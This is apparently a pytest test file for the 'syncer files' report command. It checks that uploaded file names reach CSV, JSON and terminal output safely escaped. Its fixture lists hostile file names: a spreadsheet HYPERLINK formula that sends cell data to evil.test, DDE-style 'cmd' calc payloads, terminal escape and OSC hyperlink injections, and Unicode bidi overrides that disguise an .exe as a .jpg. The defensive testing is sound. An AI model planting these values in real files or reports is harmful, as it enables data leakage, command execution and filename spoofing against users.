"""Reports of hostile filenames: no live formula, no raw control, no reordered text.

A filename is whatever someone uploaded. Synced from the simulator into the real
database and exported by the real `syncer files` command, it must reach a spreadsheet
as text, a terminal as visible escapes, and a JSON reader unchanged.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from datetime import UTC, datetime

import pytest

from syncer.reports import Filters, Format, files_report, write_report

HOSTILE_NAMES = {
    "formula": '=HYPERLINK("http://evil.test/?leak="&A1,"report")',
    "plus": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "esc": "clear\x1b[2J\x1b[31mred.jsonl",
    "osc": "link\x1b]8;;http://evil.test\x07click\x1b]8;;\x07.jsonl",
    "bell": "bell\x07\x08.jsonl",
    "c1": "c1\x85\x9b31m\x9d0;title\x9c.jsonl",
    "bidi": "invoice\u202egpj.exe",
    "isolate": "a\u2066b\u2069\u200fc.jsonl",
}
# Characters that must not appear raw in any export.
UNSAFE = {
    *map(chr, range(0x20)),
    *map(chr, range(0x7F, 0xA0)),
    *"\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u2028\u2029",
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_files(engine, env, simulator, tmp_path):
    for file_id, name in HOSTILE_NAMES.items():
        simulator.add_file("moonshot", id=f"file-{file_id}", filename=name)
    synced = export(env, tmp_path, "sync", "--source", "moonshot")
    assert "moonshot: ok" in synced
    return env, tmp_path


def export(env, cwd, *args: str) -> str:
    result = subprocess.run(
        [sys.executable, "-m", "syncer", *args],
        env=env,
        cwd=cwd,
        capture_output=True,
        timeout=60,
        check=False,
    )
    assert result.returncode == 0, result.stderr.decode(errors="replace")
    # Decoded by hand: universal newlines would hide a raw CR.
    return result.stdout.decode("utf-8")


def test_csv_cells_are_never_formulas_or_raw_controls(hostile_files):
    """Before: `=HYPERLINK(...)`, `+cmd|...`, `@SUM(...)` were written as live formulas,
    with raw ESC, OSC, BEL and CR bytes."""
    text = export(*hostile_files, "files", "--format", "csv", "--source", "moonshot")

    assert text.count("\r") == text.count("\r\n")  # CR only in the CRLF row ends
    assert not UNSAFE & set(text.replace("\r\n", ""))
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    names = {row["file_id"].removeprefix("file-"): row["filename"] for row in rows}
    assert names.keys() == HOSTILE_NAMES.keys()
    for cell in (value for row in rows for value in row.values()):
        assert not cell.startswith(FORMULA_STARTS), cell
    assert names["formula"] == "'" + HOSTILE_NAMES["formula"]
    assert names["plus"].startswith("'+cmd")
    assert names["at"].startswith("'@SUM")
    assert names["esc"] == "clear\\x1b[2J\\x1b[31mred.jsonl"
    assert names["tab"] == "\\t=1+1"
    assert names["bidi"] == "invoice\\u202egpj.exe"


def test_json_carries_every_name_exactly_with_no_raw_control(hostile_files):
    """Before: JSON output emitted raw C1 controls (and bidi overrides)."""
    text = export(*hostile_files, "files", "--format", "json", "--source", "moonshot")

    assert not UNSAFE & set(text.replace("\n", ""))
    records = [json.loads(line) for line in text.splitlines()]
    assert {r["file_id"].removeprefix("file-"): r["filename"] for r in records} == HOSTILE_NAMES


def test_piped_tables_show_controls_as_escapes(hostile_files):
    text = export(*hostile_files, "files", "--source", "moonshot")

    assert not UNSAFE & set(text.replace("\n", "").replace("\t", ""))
    assert "clear\\x1b[2J" in text
    assert "c1\\x85\\x9b31m" in text


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_a_terminal_table_shows_bidi_overrides_escaped(monkeypatch):
    """Before: the table passed U+202E through, so `invoice\u202egpj.exe` read as
    `invoiceexe.jpg`."""
    monkeypatch.setenv("COLUMNS", "250")
    times = [datetime(2026, 1, 2, tzinfo=UTC)] * 3 + [None]
    rows = [
        ["kimi", f"file-{key}", "moonshot", name, "batch", 1, None, "ok", "", "ready", *times]
        for key, name in HOSTILE_NAMES.items()
    ]
    out = Terminal()

    write_report(rows, files_report(Filters()), Format.TABLE, out)

    text = out.getvalue()
    assert "invoice\\u202egpj.exe" in text
    assert "a\\u2066b\\u2069\\u200fc.jsonl" in text
    # rich draws the table with its own ANSI codes; none comes from the data.
    assert "\u202e" not in text
    assert "\x07" not in text
    assert "\x85" not in text
    assert "\x1b]8;;http://evil" not in text
